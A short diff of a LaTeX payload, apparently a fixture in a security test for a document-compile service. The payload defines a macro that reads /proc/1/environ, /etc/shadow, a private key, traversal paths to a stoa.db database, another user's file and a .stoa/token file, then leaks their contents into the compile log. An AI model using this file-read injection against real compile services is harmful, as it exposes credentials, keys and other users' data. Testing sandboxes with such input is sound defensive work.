@@ -18,7 +18,7 @@ $\sage{factor(2025)}$, \input{chapter}\cite{knuth}
 \openin1=/proc/1/environ
 \newread\spy
 \def\look#1{\openin\spy=#1 \ifeof\spy\else\read\spy to\seen\message{LEAK #1 \meaning\seen}\fi\closein\spy}
-\look{chapter.tex}\look{/etc/shadow}\look{/etc/ssh/ssh_host_rsa_key}\look{../../stoa.db}\look{../../../stoa.db}\look{../../data/stoa.db}\look{../OTHER/secret.tex}\look{.stoa/token}
+\look{chapter.tex}\look{/etc/shadow}\look{/etc/ssl/private/key}\look{../../stoa.db}\look{../../../stoa.db}\look{../../data/stoa.db}\look{../OTHER/secret.tex}\look{.stoa/token}
 \bibliographystyle{plain}\bibliography{lib}
 \end{document}
 `
